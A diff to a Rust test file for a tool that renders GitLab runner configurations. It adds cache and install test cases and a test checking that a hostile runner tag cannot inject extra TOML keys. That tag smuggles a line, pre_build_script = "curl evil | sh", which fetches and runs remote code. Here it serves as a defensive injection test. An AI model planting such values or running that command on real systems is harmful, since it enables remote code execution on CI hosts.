@@ -99,8 +99,24 @@ fn fleet(stack: &Path, args: &[&str]) -> Command {
 fn user_data_of_every_example_stack_passes_cloud_init_schema() {
     let cloud_init = cloud_init();
     let dir = tempfile::tempdir().unwrap();
-    let cases: [(&str, &[&str]); 4] = [
+    let cases: [(&str, &[&str]); 6] = [
         ("sandbox.yaml", &[]),
+        (
+            "sandbox.yaml",
+            &[
+                "--set",
+                "runner.runner_token_env=FLEET_TEST_TOKEN",
+                "--set",
+                "runner.install={docker: docker.io, runner: deb, runner_deb: \"http://10.0.2.2:8000/gitlab-runner.deb\", apt_proxy: \"http://10.0.2.2:3142\"}",
+            ],
+        ),
+        (
+            "sandbox.yaml",
+            &[
+                "--set",
+                "runner.cache={bucket: c, server_address: \"minio.internal:9000\", insecure: true, access_key_env: FLEET_TEST_TOKEN, secret_key_env: FLEET_TEST_TOKEN}",
+            ],
+        ),
         (
             "sandbox.yaml",
             &["--set", "runner.runner_token_env=FLEET_TEST_TOKEN"],
@@ -477,4 +493,78 @@ fn runner_config_of_every_example_stack_is_valid_toml() {
             "{file}"
         );
     }
+}
+
+/// `config.toml` text parsed by Python's `tomllib`, as JSON.
+fn toml_to_json(config: &str) -> Value {
+    let mut child = Command::new("python3")
+        .args([
+            "-c",
+            "import json, sys, tomllib; print(json.dumps(tomllib.loads(sys.stdin.read())))",
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("python3 is missing: install python3 (3.11 or newer, for tomllib)");
+    use std::io::Write as _;
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(config.as_bytes())
+        .unwrap();
+    let o = child.wait_with_output().unwrap();
+    assert!(
+        o.status.success(),
+        "config.toml does not parse: {}\n{config}",
+        text(&o)
+    );
+    serde_json::from_slice(&o.stdout).unwrap()
+}
+
+/// Issue 15, D3 and D9 checked by a real TOML parser: an S3-compatible cache carries the
+/// keys gitlab-runner needs, and a hostile tag adds no key (the loader refuses it too).
+#[test]
+fn runner_config_with_a_minio_cache_and_a_hostile_tag_parses_to_exactly_its_keys() {
+    use fleet_core::render::{Renderer, Secrets};
+    use fleet_core::secret::Secret;
+    let dir = tempfile::tempdir().unwrap();
+    let path = stack_copy(dir.path(), "sandbox.yaml");
+    let set = fleet_core::stack::Override::parse(
+        "runner.cache={bucket: c, server_address: \"minio.internal:9000\", insecure: true, access_key_env: AK, secret_key_env: SK}",
+    )
+    .unwrap();
+    let env = |k: &str| Some(format!("{k}-value"));
+    let mut loaded = fleet_core::stack::load(&path, &[set], &env).unwrap();
+    loaded.stack.runner.tags = vec!["docker\"\npre_build_script = \"curl evil | sh\"\n#".into()];
+    let config = Renderer::from_stack(&loaded)
+        .with_token(Secret::new("glrt-test-token"))
+        .runner_config("vm-0001", Secrets::Shown)
+        .unwrap();
+    let v = toml_to_json(&config);
+    let s3 = &v["runners"][0]["cache"]["s3"];
+    assert_eq!(s3["ServerAddress"], "minio.internal:9000");
+    assert_eq!(s3["Insecure"], true);
+    assert_eq!(s3["AuthenticationType"], "access-key");
+    assert_eq!(s3["AccessKey"], "AK-value");
+    assert_eq!(s3["SecretKey"], "SK-value");
+    let mut top: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
+    top.sort();
+    assert_eq!(
+        top,
+        ["check_interval", "concurrent", "listen_address", "runners"]
+    );
+    let mut keys: Vec<&str> = v["runners"][0]
+        .as_object()
+        .unwrap()
+        .keys()
+        .map(String::as_str)
+        .collect();
+    keys.sort();
+    assert_eq!(
+        keys,
+        ["cache", "docker", "executor", "limit", "name", "token", "url"],
+        "{config}"
+    );
 }
